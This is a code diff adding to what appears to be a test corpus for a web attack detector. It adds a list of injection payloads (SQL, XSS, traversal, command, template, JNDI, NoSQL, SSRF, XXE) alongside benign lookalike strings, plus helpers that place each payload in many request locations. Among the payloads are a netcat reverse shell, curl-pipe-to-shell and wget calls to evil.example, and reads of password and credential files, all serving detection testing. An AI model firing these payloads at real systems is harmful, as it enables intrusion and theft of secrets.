@@ -451,3 +451,122 @@ def benign() -> list[Entry]:
                   "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"):
         out.append(_get("benign", "/", {"user-agent": agent}))
     return out
+
+
+# A fourth set, written as public regression suites write theirs (one payload per request, sent
+# in a query value, an argument name, a form, JSON, multipart or XML body, a cookie, a header,
+# the path) and first run before the signatures were revised for it. Every payload is sent in
+# several places; see ``located_attacks``.
+LOCATED_ATTACKS = [
+    # sqli
+    "1' or '1'='1'--", "1 union all select null,version()--", "' UNION SELECT 1,@@version,3#",
+    "1; DROP TABLE users--", "admin' AND 1=1--", "1 AND SLEEP(5)", "1' AND BENCHMARK(1000000,SHA1(1))#",
+    "1 regexp 0x5e61", "x' or name regexp '^adm'--", "1' and row(1,1)>(select count(*),1)--",
+    "1 and (select 1 from pg_sleep(5))", "1' OR 1=1 LIMIT 1;--", "';select pg_sleep(5);--",
+    "1)) or ((1=1", "' or 1 in (select @@version)--", "1 /*!12345union*/ select 1",
+    "1'%09or%091=1--", "1 || 1=1", "' or 'a'<'b", "0 or 3>2-- -",
+    # xss
+    "<script>alert('xss')</script>", "<img src=x onerror=alert(document.domain)>",
+    "<svg onload=alert(1)//", "<a href=javascript:alert(1)>x", "\"><img src=x onerror=prompt(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert(1)>",
+    "<input onfocus=alert(1) autofocus>", "<img src=\"x\" onerror=\"alert(String.fromCharCode(88))\">",
+    "<sCrIpT>alert(1)</ScRiPt>", "<img/src=x/onerror=alert(1)>", "javascript&colon;alert(1)",
+    # traversal / sensitive files
+    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow",
+    "/etc/passwd", "..\\..\\..\\windows\\win.ini", ".htaccess", ".env", ".git/config",
+    "wp-config.php.bak", "id_rsa", "/.aws/credentials", ".htpasswd", "web.config", "/.ssh/id_rsa",
+    "/server-status", "/actuator/env", ".bash_history", "/proc/self/environ", "/etc/hosts",
+    "database.yml", ".DS_Store", "config.php~", "/.git/HEAD", ".npmrc",
+    # rce
+    ";cat /etc/passwd", "|id", "$(id)", "`whoami`", "; ls -la", "&& cat /etc/shadow",
+    "; nc -e /bin/sh 10.0.0.1 4444", "| curl http://evil.example/x | sh", ";wget http://evil.example/x",
+    "; sleep 5", "a|ping -c 4 127.0.0.1", "; /usr/bin/id", "& ipconfig /all", "| dir c:\\",
+    "() { :; }; /bin/bash -c 'cat /etc/passwd'", "c\\at /etc/passwd", "/???/??t /???/p??s??",
+    # php / java / node / templates
+    "<?php system('id'); ?>", "<?= `id` ?>", "php://input", "php://filter/read=convert.base64-encode/resource=/etc/passwd",
+    "${jndi:ldap://evil.example/x}", "${${lower:j}${lower:n}di:ldap://x/a}", "{{7*7}}", "${7*7}",
+    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
+    "java.lang.Runtime.getRuntime().exec(\"id\")", "T(java.lang.Runtime).getRuntime().exec('id')",
+    # nosql
+    "{\"$gt\":\"\"}", "{\"$ne\":null}", "{\"$where\":\"sleep(1000)\"}", "'; return true; //",
+    "db.users.find({})", "true, $where: '1 == 1'", "{\"$regex\":\".*\"}",
+    # ssrf / xxe / crlf / ldap / ssi
+    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:22/", "gopher://localhost:25/_HELO",
+    "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
+    "%0d%0aSet-Cookie:%20sess=1", "foo%0d%0aLocation:%20http://evil.example",
+    "\u560a\u560dSet-Cookie: a=1", "*)(uid=*))(|(uid=*", "<!--#exec cmd=\"id\"-->",
+]
+LOCATED_BENIGN = [
+    "O'Brien", "Rock 'n' Roll", "Don't stop me now", "select a plan that fits", "drop-off location",
+    "union square san francisco", "delete account", "update my address", "insert coin",
+    "\"quoted phrase\" search", "5' 10\" height", "Q&A session", "a+b", "x OR y", "NOT NULL",
+    "order by price", "group by category", "1,2,3", "100%", "30% off -- today only",
+    "C:\\Program Files\\App", "https://example.com/path?x=1&y=2", "mailto:bob@example.com",
+    "user@example.com", "+1 (555) 010-9999", "2024-05-01T12:00:00Z", "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
+    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ."
+    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+    "dGhpcyBpcyBhIGxvbmcgYmFzZTY0IHRva2VuIHdpdGggcGFkZGluZw==", "SGVsbG8sIFdvcmxkIQ/+x9==",
+    "L'été à Paris", "Größe: 42 – Straße", "こんにちは世界", "東京都渋谷区", "naïve café",
+    "Wie geht's?", "C'est la vie", "it's a 'test'", "he said: \"hi\"; she left",
+    "if (a < b) return;", "x => x * 2", "print('hello')", "SELECT name FROM users",
+    "git checkout -b feature/login", "npm install --save react", "docker run -p 80:80 nginx",
+    "<b>bold</b> text", "**markdown** _italic_", "# Heading", "[link](https://example.com)",
+    "1 + 1 = 2", "a && b || c", "price >= 10 and price <= 20", "true", "null", "{}", "[]",
+    "/home/user/docs/report.pdf", "config.yaml", "env", "readme.md",
+    "#ff0000", "rgba(0, 0, 0, 0.5)", "font-family: 'Helvetica Neue', Arial", "10:30 AM",
+    "sleep well", "cat and mouse", "ping me", "who am i", "id card", "echo chamber",
+    "The quick brown fox; jumps over the lazy dog", "Bob's burgers & fries", "fish 'n' chips",
+]
+
+
+_LOCATIONS = ("name", "multipart", "xml", "user-agent", "referer", "header", "path")
+
+
+def _located(label: str, value: str, where: str) -> Entry:
+    line = value.replace("\r", "").replace("\n", "")
+    if where == "query":
+        return _get(label, "/s?q=" + q(value))
+    if where == "name":
+        return _get(label, "/s?" + q(value) + "=1")
+    if where == "form":
+        return (label, "POST", "/s", FORM_HEADERS, ("a=1&q=" + q(value)).encode())
+    if where == "json":
+        return (label, "POST", "/api/s", JSON_HEADERS, json.dumps({"id": 7, "q": value}).encode())
+    if where == "multipart":
+        body = ("--b0undary\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + value
+                + "\r\n--b0undary--\r\n")
+        return (label, "POST", "/s", {**BROWSER, "content-type":
+                                      "multipart/form-data; boundary=b0undary"}, body.encode())
+    if where == "xml":
+        text = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+        return (label, "POST", "/api/s", {**BROWSER, "content-type": "application/xml"},
+                f"<?xml version=\"1.0\"?><req><q>{text}</q></req>".encode())
+    if where == "cookie":
+        return _get(label, "/s", {"cookie": "sid=5f2a9c; q=" + q(value)})
+    if where == "user-agent":
+        return _get(label, "/s", {"user-agent": line})
+    if where == "referer":
+        return _get(label, "/s", {"referer": "https://www.example.org/?q=" + q(value)})
+    if where == "header":
+        return _get(label, "/s", {"x-api-filter": line})
+    assert where == "path"
+    return _get(label, "/s/" + q(value))
+
+
+def located_attacks() -> list[Entry]:
+    """Return LOCATED_ATTACKS in a query, a form, JSON, a cookie, and one more place each."""
+    out = []
+    for i, value in enumerate(LOCATED_ATTACKS):
+        for where in ("query", "form", "json", "cookie", _LOCATIONS[i % len(_LOCATIONS)]):
+            out.append(_located("located-" + where, value, where))
+    return out
+
+
+def located_benign() -> list[Entry]:
+    """Return LOCATED_BENIGN in a query, a form, JSON, and one more place each."""
+    out = []
+    for i, value in enumerate(LOCATED_BENIGN):
+        for where in ("query", "form", "json", _LOCATIONS[i % len(_LOCATIONS)]):
+            out.append(_located("benign", value, where))
+    return out
